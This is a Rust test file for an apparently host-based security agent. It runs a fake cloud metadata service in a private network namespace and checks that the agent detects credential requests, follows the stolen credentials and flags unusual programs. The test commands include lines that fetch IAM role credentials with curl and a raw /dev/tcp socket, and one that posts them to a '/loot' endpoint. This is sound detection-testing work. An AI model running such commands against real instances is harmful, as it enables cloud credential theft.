//! Whoever asks a metadata service for credentials, at its real address, in a network of the test's own.

use super::{count, tls_programs::installed};
use crate::{
    agent::Agent,
    command::{Background, act},
    events::{Ask as _, Event, list, of_kind},
    machine::{Scratch, turn},
    plant,
};

/// Speaks as EC2's does (version 2, which wants a token first) and as EKS's, GCE's and Azure's; `$1` are commands for a shell
/// of this network, line by line.
const NETWORK: &str = "ip link set lo up
for a in 169.254.169.254 169.254.170.23 169.254.170.2; do ip addr add $a/32 dev lo; done
setpriv --pdeathsig KILL /usr/bin/python3 -c \"$1\" &
until (: </dev/tcp/169.254.169.254/80) 2>/dev/null; do sleep 0.1; done
while read -r line; do eval \"$line\" & wait $!; done";

const SERVER: &str = "import base64, http.server, json, os
SESSION = base64.b64encode(os.urandom(42)).decode()
KEYS = json.dumps({'Code': 'Success', 'Type': 'AWS-HMAC', **json.load(open(os.environ['KEY'])),
  'Token': 'x' * 40, 'Expiration': '2036-01-01T00:00:00Z', 'LastUpdated': '2026-01-01T00:00:00Z'})
ROLE = '/latest/meta-data/iam/security-credentials/'
class Service(http.server.BaseHTTPRequestHandler):
  protocol_version = 'HTTP/1.1'
  def log_message(self, *_): pass
  def say(self, text, code=200):
    self.send_response(code); self.send_header('Content-Length', str(len(text)))
    self.end_headers(); self.wfile.write(text.encode())
  def do_PUT(self): self.say(SESSION)
  def do_GET(self):
    p = self.path.split('?')[0]
    if p == ROLE: return self.say('web')
    if p == ROLE + 'web' or p.endswith('/credentials') or p.endswith('/token'): return self.say(KEYS)
    self.say('i-0123', 200)
http.server.ThreadingHTTPServer(('0.0.0.0', 80), Service).serve_forever()";

/// What the service gives lies in a file that it alone reads: none of those who ask has it before.
fn network(scratch: &Scratch) -> Background {
    network_giving(scratch, &plant::aws())
}

fn network_giving(scratch: &Scratch, key: &plant::Planted) -> Background {
    let file = scratch.join("given.json");
    let id = key.identifier.as_ref().unwrap();
    let text = format!(
        "{{\"AccessKeyId\":\"{id}\",\"SecretAccessKey\":\"{}\"}}",
        key.value
    );
    std::fs::write(&file, text).unwrap();
    act("unshare")
        .args(["--net", "bash", "-c", NETWORK, "bash", SERVER])
        .env("KEY", &file)
        .limit(300)
        .spawn_listening()
}

fn asked(agent: &Agent, root: u32) -> Vec<Event> {
    of_kind(&agent.tree(root), "credential_requested")
}

/// curl asks for what the machine may do, and is found out; what else it asks for is nobody's business.
pub fn curl_asks_for_the_machines_role() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let mut network = network(&scratch);
    let root = network.pid();
    network.say(
        "T=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token); \
         curl -s -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/instance-id >/dev/null; \
         curl -s -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/web >/dev/null",
    );
    agent.expect("the request", root, |e| {
        e.is("credential_requested") && e.in_tree(root)
    });
    agent.wait_idle();
    let all = asked(&agent, root);
    count(&all, 1, "requests for credentials");
    let text = all[0].brief();
    assert!(all[0].executable().ends_with("/curl"), "{text}");
    assert_eq!(all[0].peer(), ("169.254.169.254", 80), "{text}");
    let request = all[0].request.as_ref().unwrap();
    assert_eq!(
        request.path,
        "/latest/meta-data/iam/security-credentials/web"
    );
    let target = request.target.as_ref().unwrap();
    assert_eq!((&target.service[..], &target.name[..]), ("aws_imds", "web"));
    let finding = agent.expect("the finding", root, |e| {
        let rule = e.finding.as_ref().map_or("", |f| &f.rule);
        rule == "metadata-credentials-unusual-program" && e.in_tree(root)
    });
    assert_eq!(finding.attack, ["T1552.005"], "{}", finding.brief());
    network.say("curl -s http://169.254.170.23/v1/credentials >/dev/null");
    agent.expect("EKS", root, |e| {
        e.is("credential_requested") && e.in_tree(root) && e.peer().0 == "169.254.170.23"
    });
    network.end();
}

/// What the service answers is known from then on, by whoever it was taken in, and found where it is sent to.
pub fn what_is_answered_is_followed() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let key = plant::aws();
    let mut network = network_giving(&scratch, &key);
    let root = network.pid();
    let asked = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web";
    network.say(&format!(
        "curl -s {asked} {asked} | (sleep 1; curl -s -d @- http://169.254.170.2/loot >/dev/null)"
    ));
    let is_it = |e: &Event| e.in_tree(root) && e.shows(&key);
    let given = agent.expect("the answer", root, |e| {
        is_it(e) && e.is("credential_received")
    });
    let text = given.brief();
    assert_eq!((given.grade(), given.path()), ("observed", asked), "{text}");
    assert!(given.executable().ends_with("/curl"), "{text}");
    let sent = agent.expect("the send", root, |e| {
        is_it(e) && e.is("credential_sent") && e.peer().0 == "169.254.170.2"
    });
    let text = sent.brief();
    assert_eq!((sent.grade(), sent.path()), ("observed", asked), "{text}");
    let way = &sent.evidence.as_ref().unwrap().path;
    let how: Vec<&str> = way.iter().map(|step| step.how.as_str()).collect();
    assert_eq!(how.first(), Some(&"received"), "{how:?}");
    assert_eq!(how.last(), Some(&"pipe"), "{how:?}");
    agent.wait_idle();
    let mut again = of_kind(&agent.tree(root), "credential_received");
    again.retain(|e| is_it(e));
    count(&again, 1, "answers");
    // To ask again is no use of what was given before.
    let to_service = |e: &Event| e.is("credential_sent") && e.peer().0 == "169.254.169.254";
    let mut reported = agent.tree(root);
    reported.retain(|e| to_service(e) && e.executable().ends_with("/curl"));
    assert!(reported.is_empty(), "{}", list(&reported));
    // By whoever reads it: the one who asked has given away the socket.
    network.say(
        "exec 3<>/dev/tcp/169.254.169.254/80; sleep 1; \
         printf 'GET /latest/meta-data/iam/security-credentials/web HTTP/1.0\\r\\n\\r\\n' >&3; \
         (sleep 1; cat <&3 >/dev/null); exec 3>&-",
    );
    agent.expect("the answer to another", root, |e| {
        e.shows(&key) && e.is("credential_received") && e.executable().ends_with("/cat")
    });
    network.end();
}

/// The cloud's library in a service asks for the same, and nobody is accused.
pub fn botocore_asks_for_the_machines_role() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let service = scratch.join("service.py");
    std::fs::write(
        &service,
        "import botocore.session, time
got = botocore.session.Session().get_credentials()
assert got and got.method == 'iam-role', got
got.get_frozen_credentials()
time.sleep(1)
",
    )
    .unwrap();
    let mut network = network(&scratch);
    let root = network.pid();
    network.say(&format!(
        "HOME=/nowhere {} {}",
        installed("python/bin/python3").display(),
        service.display()
    ));
    let event = agent.expect("the request", root, |e| {
        e.is("credential_requested") && e.in_tree(root)
    });
    let request = event.request.as_ref().unwrap();
    assert_eq!(request.target.as_ref().unwrap().name, "web");
    agent.wait_idle();
    count(&asked(&agent, root), 1, "requests for credentials");
    let mut accused = of_kind(&agent.tree(root), "finding");
    accused.retain(|e| {
        e.finding
            .as_ref()
            .is_some_and(|f| f.rule == "metadata-credentials-unusual-program")
    });
    assert!(accused.is_empty(), "{}", list(&accused));
    // The token with which it asked is known by its use, and is no reason to suspect what else is sent.
    let mut session = of_kind(&agent.tree(root), "credential_sent");
    session.retain(|e| e.credential_kind() == "aws-imds-token");
    assert!(!session.is_empty());
    for event in &session {
        let text = event.brief();
        assert_eq!(
            (event.grade(), event.source_type()),
            ("observed", "payload"),
            "{text}"
        );
        assert_eq!(event.peer(), ("169.254.169.254", 80), "{text}");
        assert!(event.executable().contains("python"), "{text}");
    }
    network.end();
}
